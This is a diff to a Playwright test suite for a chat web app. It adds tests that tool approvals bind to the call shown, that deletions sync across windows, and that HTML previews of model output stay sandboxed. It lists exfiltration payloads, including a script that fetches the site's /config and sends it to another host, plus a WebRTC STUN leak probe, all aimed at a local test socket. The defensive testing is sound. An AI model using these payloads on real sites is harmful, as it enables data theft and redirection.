@@ -249,6 +249,39 @@ def test_a_tool_that_asks_waits_for_the_users_word(serve: Serve, visit: Visit, b
     assert result in site.runtime.store.find()[0].turns[0].parts[0].text
 
 
+def test_an_approval_is_for_the_call_that_was_shown(serve: Serve, visit: Visit) -> None:
+    site = serve(tools=ASKING)
+    page = visit(site.url)
+    ask(page, QUESTION)
+    page.wait_for_selector("#asking >> text=calculator")
+    (answer,) = site.runtime.answers.values()
+    shown = answer.asking
+    assert shown is not None
+    answer.decide("another call's", "approve")
+    assert not shown.decided.is_set()
+    page.click("#asking button:text-is('Approve')", click_count=2)
+    wait_for_end(page)
+    assert shown.decision == "approve"
+
+
+def test_a_window_that_shows_an_older_chat_changes_nothing_by_place(serve: Serve, visit: Visit) -> None:
+    site = serve()
+    old = visit(site.url)
+    for question in (QUESTION, "What is 12 * 12?"):
+        ask(old, question)
+        wait_for_end(old)
+    (chat,) = site.runtime.store.find()
+    new = visit(f"{site.url}/?chat={chat.id}")
+    new.wait_for_selector("text=12 * 12 = 144.")
+    new.get_by_label("Delete turn").first.click()
+    new.get_by_text("Delete this turn").click()
+    new.wait_for_selector("text=888", state="detached")
+    old.get_by_label("Delete turn").first.click()
+    old.wait_for_selector("text=changed in another window")
+    old.wait_for_selector("text=888", state="detached")
+    assert [turn.user for turn in site.runtime.store.find()[0].turns] == ["What is 12 * 12?"]
+
+
 def test_always_for_this_chat_asks_once_and_can_be_taken_back(serve: Serve, visit: Visit) -> None:
     site = serve(tools=ASKING)
     page = visit(site.url)
@@ -423,18 +456,23 @@ def test_what_a_model_writes_is_text_code_and_formulas_but_no_html(serve: Serve,
     visit.errors.clear()  # type: ignore[attr-defined]  # the policy's refusals, which Chromium logs
 
 
+ESCAPES = [
+    "<script>location.href = '{there}/?secret'</script>",
+    "<meta http-equiv=refresh content='0; url={there}/'>",
+    "<iframe src='{there}/'></iframe><img src='{there}/'><link rel=stylesheet href='{there}/'>",
+    "<script>open('{there}/'); top.location = '{there}/'; new Image().src = '{there}/'</script>",
+    "<form id=f action='{there}/'></form><script>f.submit()</script>",
+    "<script>fetch('{here}/config').then(r => r.text()).then(t => fetch('{there}/?' + t))</script>",
+]
+
+
 @pytest.mark.parametrize(
-    "escape",
-    [
-        "<script>location.href = '{there}/?secret'</script>",
-        "<meta http-equiv=refresh content='0; url={there}/'>",
-        "<iframe src='{there}/'></iframe><img src='{there}/'><link rel=stylesheet href='{there}/'>",
-        "<script>open('{there}/'); top.location = '{there}/'; new Image().src = '{there}/'</script>",
-        "<form id=f action='{there}/'></form><script>f.submit()</script>",
-        "<script>fetch('{here}/config').then(r => r.text()).then(t => fetch('{there}/?' + t))</script>",
-    ],
+    ("escape", "scripts"),
+    [(escape, run) for escape in ESCAPES for run in (False, True) if "<script" in escape or not run],
 )
-def test_a_preview_reaches_nothing(serve: Serve, visit: Visit, nano: Engine, escape: str) -> None:
+def test_a_preview_reaches_nothing_over_http(
+    serve: Serve, visit: Visit, nano: Engine, escape: str, scripts: bool
+) -> None:
     with socket.create_server(("127.0.0.1", 0)) as elsewhere:
         there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}"
         site = serve(slow_engine(nano, "", seconds=0))
@@ -444,10 +482,32 @@ def test_a_preview_reaches_nothing(serve: Serve, visit: Visit, nano: Engine, esc
         ask(page, "Go")
         wait_for_end(page)
         page.click("#previews summary")
+        if scripts:
+            page.click("#previews .g-run")
         page.wait_for_timeout(400)
         assert received(elsewhere) == b""
         assert page.url.startswith(site.url)
     visit.errors.clear()  # type: ignore[attr-defined]  # what was refused is logged
+
+
+def test_scripts_of_a_preview_run_only_when_asked_for(serve: Serve, visit: Visit, nano: Engine) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:  # WebRTC, which no policy stops
+        elsewhere.bind(("127.0.0.1", 0))
+        elsewhere.settimeout(1.5)
+        stun = f"stun:127.0.0.1:{elsewhere.getsockname()[1]}"
+        script = f"const p = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}}); p.createDataChannel('x');"
+        script += "p.createOffer().then(o => p.setLocalDescription(o)); document.body.append('it ran')"
+        site = serve(slow_engine(nano, f"```html\n<p>here</p><script>{script}</script>\n```\n", seconds=0))
+        page = visit(site.url)
+        ask(page, "Go")
+        wait_for_end(page)
+        page.click("#previews summary")
+        page.frame_locator("#previews iframe").get_by_text("here").wait_for()
+        with pytest.raises(TimeoutError):
+            elsewhere.recv(1)
+        page.click("#previews .g-run")
+        page.frame_locator("#previews iframe").get_by_text("it ran").wait_for()
+    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs the scripts that it did not run
 
 
 def received(server: socket.socket) -> bytes:
